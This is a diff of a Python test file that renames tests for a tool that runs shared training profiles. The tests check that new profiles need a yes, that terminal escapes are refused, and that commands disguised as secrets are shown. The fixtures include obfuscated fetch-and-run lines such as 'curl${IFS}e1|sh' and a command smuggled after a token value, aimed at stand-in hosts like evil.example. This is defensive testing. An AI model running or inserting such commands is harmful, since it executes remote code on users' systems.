@@ -90,7 +90,7 @@ def test_each_command_that_runs_a_profile_takes_trust() -> None:
         assert option.opts == ["--trust-profile", "--trust"], name
 
 
-def test_the_first_run_and_every_change_is_shown_and_needs_a_yes(home: Path) -> None:
+def test_new_or_changed_profile_is_shown_and_needs_a_yes(home: Path) -> None:
     for words in (["run", "team/train"], ["sweep", "team/train", "--set", "job.env.MODE=fast,slow"]):
         done = command(home, *words)
         assert done.returncode == 2 and "it is new to you, from the library team" in done.stderr
@@ -206,7 +206,7 @@ def test_a_clone_does_not_say_whose_signatures_are_trusted(tmp_path: Path) -> No
 
 @pytest.mark.git
 @pytest.mark.parametrize("place", [".config/git/config", "included"])
-def test_signatures_are_checked_by_the_program_of_the_users_settings_wherever_git_finds_them(
+def test_signing_program_comes_from_the_users_git_settings(
     tmp_path: Path, place: str
 ) -> None:
     home, clone, program = tmp_path / "home", tmp_path / "clone", tmp_path / "my-gpg"
@@ -310,7 +310,7 @@ HOSTILE = {
 }  # fmt: skip
 
 
-def test_what_a_hostile_profile_says_steers_no_terminal_and_hides_nothing(home: Path) -> None:
+def test_hostile_profile_can_neither_steer_terminals_nor_hide(home: Path) -> None:
     """Escape sequences, characters that look like others, commands: refused with their place, or shown escaped."""
     share(home, yaml.safe_dump(HOSTILE))
     done = command(home, "run", "--trust", "team/train")
@@ -343,7 +343,7 @@ def test_hostile_yaml_is_one_clear_error(home: Path, text: str) -> None:
     assert str(caught.value).replace("\n", "").isprintable()
 
 
-def test_the_difference_says_secrets_and_hosts_first_and_has_an_end() -> None:
+def test_diff_of_a_profile_starts_with_secrets_and_is_bounded() -> None:
     base = {
         "disttui": 1,
         "hosts": ["a", {"host": "b", "gpus": [0]}],
@@ -378,7 +378,7 @@ def changes(before: Profile | None, now: Profile) -> list[str]:
     return bounded(difference(before, now))
 
 
-def test_a_value_that_looks_like_a_secret_hides_no_host_and_no_command() -> None:
+def test_secret_looking_value_hides_no_host_or_command() -> None:
     """The profile's author chooses what looks like a secret."""
     words = ["sh", "-c", "curl${IFS}e1|sh", "TOKEN=a1;curl${IFS}e1|sh", HF]
     env = {"X_PWD": "evil.example1.org", "A_PASSWORD": words[2], "B_PASSWORD": 1234567890}
@@ -417,7 +417,7 @@ def test_a_change_behind_a_thousand_characters_is_shown() -> None:
     assert changes(before, now)[1].endswith("x ;curl evil|sh'")
 
 
-def test_what_runs_is_said_once_also_where_the_profile_says_it_for_a_host() -> None:
+def test_activate_and_python_are_listed_once_with_their_hosts() -> None:
     line, path = "source v/bin/activate", "~/v/bin/python"
     hosts = ["a", {"host": "b", "activate": "module load cuda", "python": path}]
     now = profile(hosts=hosts, activate=line)
@@ -448,7 +448,7 @@ def test_no_number_of_other_lines_hides_what_runs() -> None:
     assert lines[-1].endswith("more lines: read the file") and len(lines) < 620
 
 
-def test_validate_shows_a_command_that_the_author_made_look_like_a_secret(home: Path) -> None:
+def test_validate_shows_a_command_disguised_as_a_secret(home: Path) -> None:
     """The error about a foreign profile sends the user there to read it."""
     evil = "curl${IFS}e1|sh"
     for name in ("train", "other"):
@@ -470,7 +470,7 @@ def test_validate_masks_a_token_among_the_arguments(home: Path) -> None:
     assert "'job.args.3' looks like a Hugging Face token" in command(home, "profile", "validate", "team/train").stderr
 
 
-def test_the_app_asks_about_a_found_run_with_every_word_of_its_commands(tmp_path: Path) -> None:
+def test_app_shows_full_commands_before_it_reruns_a_found_run(tmp_path: Path) -> None:
     evil = "curl${IFS}e1|sh"
     found = profile(hosts=["evil-host1"], job={"command": ["sh", "-c", evil], "env": {"A_PASSWORD": evil}})
     masking.suspect(evil)  # as the opening of the run does
@@ -501,7 +501,7 @@ def test_a_package_with_the_name_of_a_token_is_shown() -> None:
     assert not any("***" in line for line in lines)
 
 
-def test_what_an_earlier_version_made_look_like_a_secret_is_shown_at_the_terminal(
+def test_validate_shows_a_value_once_disguised_as_a_secret(
     home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
 ) -> None:
     evil = "https://evil.example/p1.sh"
